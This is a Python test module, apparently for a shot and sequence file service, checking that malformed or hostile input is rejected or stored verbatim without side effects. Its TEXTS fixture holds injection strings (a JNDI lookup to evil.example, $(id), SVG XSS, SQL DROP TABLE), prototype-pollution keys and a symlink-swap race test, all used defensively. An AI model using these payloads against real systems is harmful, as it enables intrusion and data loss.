"""Whatever is sent, through whichever door: the promised answer, in a second, and nothing is touched."""

import asyncio
import json
import logging
import os
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest

from services.sequence_file.storage.disk import Disk
from tests.services import bad_files, bad_structure, bad_values
from tests.services.asking import Ask
from tests.services.bad_files import BROKEN
from tests.services.bad_input import Row, is_change, sequences, shot, shots, update, update_loose
from tests.services.doors import DOORS, IPC, SERVICE, Door
from tests.services.situations import content
from tests.services.system import CHASE, OPENING, Scene

pytestmark = pytest.mark.asyncio(loop_scope="module")

every_door = pytest.mark.parametrize("door", DOORS, ids=[door.name for door in DOORS])


def _cases() -> Iterator[object]:
    """Each row's first read and first edit through every door that can say it, its other calls through two."""
    for row in (*bad_files.rows(), *bad_values.rows(), *bad_structure.rows()):
        said: set[bool] = set()
        for number, ask in enumerate(row.asks, 1):
            doors = (SERVICE, IPC) if is_change(ask) in said else DOORS
            said.add(is_change(ask))
            for door in doors:
                if door.kind in row.kinds and door.expresses(ask):
                    yield pytest.param(row, ask, door, id=f"{row.name}-{ask.method} {number}-{door.name}")


@pytest.mark.parametrize(("row", "ask", "door"), [*_cases()])
async def test_bad_input_gets_the_answer_that_is_promised(scene: Scene, row: Row, ask: Ask, door: Door) -> None:
    if row.given:
        await row.given(scene)
    before = scene.state()
    answer = await scene.ask(door, ask)
    assert scene.state() == before
    assert (answer.code, answer.reason) == (row.code, row.reason_at(door)), answer.message
    assert answer.metadata.items() >= row.metadata.items()
    if row.pointer is not None:
        assert answer.metadata["pointer"] == ("/updates" if door.kind == "ipc" else "") + row.pointer
    if row.field:
        assert row.field.removesuffix("_json") in {name.removesuffix("_json") for name in answer.fields}
    for words in row.says:
        assert words in answer.message
    assert (answer.retry_after is not None) == row.retry


@pytest.mark.parametrize("name", BROKEN)
@every_door
async def test_a_list_names_the_file_that_cannot_be_read(scene: Scene, door: Door, name: str) -> None:
    raw, line, column = BROKEN[name]
    await content(raw)(scene)
    answer = await scene.ask(door, sequences())
    assert answer.documents == [CHASE] or json.loads(answer.documents[0]) == json.loads(CHASE)
    (broken,) = answer.unreachable
    assert (
        broken.items()
        >= {
            "file": "sequences/sequence_001.json",
            "reason": "SEQUENCE_FILE_INVALID",
            "line": line,
            "column": column,
        }.items()
    )


@every_door
async def test_a_file_that_becomes_whole_is_waited_for(scene: Scene, door: Door) -> None:
    scene.sequence.write_text(OPENING[:200])
    threading.Timer(0.05, scene.sequence.write_text, [OPENING]).start()
    assert len((await scene.ask(door, shots())).documents) == 3


TEXTS: Mapping[str, str] = {
    "quotes": "say \"it\" or 'it' or `it`",
    "percent and underscore": "100%_%s%%__%n",
    "backslashes": "C:\\film\\n\\\\ \\u0041",
    "lookup": "${jndi:ldap://evil.example/x} {{7*7}} $(id) `id`",
    "markup": "<svg onload=alert(1)></script>]]>&amp;",
    "bidi controls": "\u202eevil\u202c \u2066x\u2069 \u200f\u061c",
    "line separators": "a\u2028b\u2029c\r\n\x85d",
    "control characters": "\x01\x1b[31m\x7f\t\b\f",
    "sql": "'; DROP TABLE shots; --",
    "astral and combining": "\U0001f3ac e\u0301 \U0001f468\u200d\U0001f469\u200d\U0001f467 \ufffd\uffff",
    "byte order mark": "\ufeffx",
    "1 MB": "0123456789abcdef" * 65536,
    "1 MB of quotes": '"\\' * 524288,
    "empty": "",
}


@pytest.mark.parametrize("name", TEXTS)
@every_door
async def test_text_is_stored_and_returned_unchanged(scene: Scene, door: Door, name: str) -> None:
    text = TEXTS[name]
    answer = await scene.ask(door, update(json.dumps({"prompt": text})))
    assert answer.code == "OK", answer.message
    assert json.loads(answer.documents[0])["prompt"] == text
    assert json.loads((await scene.ask(door, shots())).documents[0])["prompt"] == text
    written = json.loads(scene.sequence.read_text())
    assert written["shots"][0]["prompt"] == text
    assert written["shots"][1:] == json.loads(OPENING)["shots"][1:]


@every_door
async def test_names_of_prototypes_are_plain_data(scene: Scene, door: Door) -> None:
    updates = (
        '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"x": 1}}, "generation": {"__proto__": 1}}'
    )
    answer = await scene.ask(door, update(updates))
    stored = json.loads(scene.sequence.read_text())["shots"][0]
    assert json.loads(answer.documents[0]) == stored
    assert stored["__proto__"] == {"polluted": True}
    assert stored["constructor"] == {"prototype": {"x": 1}}
    assert stored["generation"]["__proto__"] == 1


@pytest.mark.parametrize(
    "ask", [update("{}"), update("{}", mode=2), update_loose("{}")], ids=["merge", "assign", "loose"]
)
@every_door
async def test_an_empty_update_writes_nothing(scene: Scene, door: Door, ask: Ask) -> None:
    place = {name: ask.fields[name] for name in ("project_path", "sequence_id", "shot_id") if name in ask.fields}
    etag = (await scene.ask(door, Ask(method="GetShot", fields=place))).etag
    before = scene.state()
    answer = await scene.ask(door, ask)
    assert (answer.code, answer.etag) == ("OK", etag)
    assert scene.state() == before


@every_door
async def test_a_byte_order_mark_is_accepted_and_kept(scene: Scene, door: Door) -> None:
    scene.sequence.write_bytes(b"\xef\xbb\xbf" + OPENING.encode())
    assert (await scene.ask(door, update())).code == "OK"
    raw = scene.sequence.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf{")
    assert json.loads(raw[3:])["shots"][0]["prompt"] == "night"


@every_door
async def test_a_large_page_is_capped(scene: Scene, door: Door) -> None:
    scene.sequence.write_text(json.dumps({"id": "001", "shots": [{"id": f"s{n}"} for n in range(10_001)]}))
    for size in (10**9, 2**31 - 1):
        answer = await scene.ask(door, shots(page_size=size))
        assert len(answer.documents) == 10_000
        assert answer.next_page_token


@every_door
async def test_a_stale_etag_is_told_what_is_there_now(scene: Scene, door: Door) -> None:
    now = await scene.ask(door, shot(sequence_id="001"))
    answer = await scene.ask(door, update(etag="0" * 32))
    assert answer.metadata["current_etag"] == now.etag
    assert json.loads(answer.metadata["current_json"]) == json.loads(now.documents[0])


@pytest.mark.parametrize(("operation", "ask"), [("list", shots()), ("list", update()), ("write", update())])
@every_door
async def test_of_an_error_of_ours_only_the_id_is_told(
    scene: Scene, door: Door, operation: str, ask: Ask, caplog: pytest.LogCaptureFixture
) -> None:
    url = "postgresql://shotline:hunter2@db.internal/films"
    scene.fail(operation, scene.project / "sequences", RuntimeError(f"cannot connect to {url}"))
    before = scene.state()
    with caplog.at_level(logging.ERROR):
        answer = await scene.ask(door, ask)
    assert (answer.code, answer.reason) == ("INTERNAL", "INTERNAL")
    assert not {word for word in ("hunter2", "postgresql", "db.internal", "connect to") if word in answer.everything}
    assert answer.message == f"internal error; see the log under error id {answer.metadata['error_id']}"
    (told,) = (record for record in caplog.records if answer.metadata["error_id"] in record.getMessage())
    assert told.exc_info
    assert url in str(told.exc_info[1])
    assert scene.state() == before


@every_door
async def test_an_edit_whose_caller_gave_up_is_not_made_later(scene: Scene, door: Door) -> None:
    listed = threading.Event()

    def dawdle() -> None:
        time.sleep(0.3)
        listed.set()

    scene.meet("list", scene.project / "sequences", dawdle)
    before = scene.state()
    hurried = Ask(method="UpdateShot", fields=update().fields, timeout=0.1)
    assert (await scene.ask(door, hurried)).code in {"DEADLINE_EXCEEDED", "UNAVAILABLE"}
    await asyncio.to_thread(listed.wait)
    await asyncio.sleep(0.05)
    assert scene.state() == before


def _file(scene: Scene) -> Path:
    return scene.sequence


def _folder(scene: Scene) -> Path:
    return scene.project / "sequences"


def _project(scene: Scene) -> Path:
    return scene.project


@pytest.mark.parametrize("swapped", [_file, _folder, _project])
@pytest.mark.parametrize("door", [SERVICE, IPC], ids=["service", "ipc"])
async def test_a_link_swapped_in_between_check_and_open_leads_nowhere(
    scene: Scene, door: Door, swapped: Callable[[Scene], Path]
) -> None:
    path = swapped(scene)
    link = path.with_name(f"{path.name}-link")
    link.symlink_to(scene.system.outside / path.relative_to(scene.project))
    outside = {file: file.read_bytes() for file in scene.system.outside.glob("**/*.json")}
    disk, stopping = Disk(), threading.Event()

    def swap() -> None:
        folder = os.open(path.parent, os.O_RDONLY)
        while not stopping.is_set():
            disk.exchange(folder, path.name, link.name)
        os.close(folder)

    thread = threading.Thread(target=swap)
    thread.start()
    answers = []
    try:
        until = time.monotonic() + 0.7
        while time.monotonic() < until:
            # What no answer may hold is checked in `ask`: the text of the files outside.
            for ask in (
                shots(),
                shot(sequence_id="001"),
                shot(shot_id="loose"),
                update(f'{{"n": {time.time_ns() % 1000}}}'),
            ):
                answers.append(await scene.ask(door, ask))
    finally:
        stopping.set()
        thread.join()
    assert {answer.code for answer in answers} >= {"OK"}
    refused = {"UNSAFE_FILE", "PROJECT_NOT_ALLOWED", "PROJECT_NOT_FOUND", "SEQUENCE_NOT_FOUND", "FILE_BUSY", "IO_ERROR"}
    conflict = {"EDIT_CONFLICT"}  # what was swapped away comes back: another program's version with another `n`
    assert {answer.reason for answer in answers} <= {"", *refused, *conflict}
    assert {file: file.read_bytes() for file in scene.system.outside.glob("**/*.json")} == outside
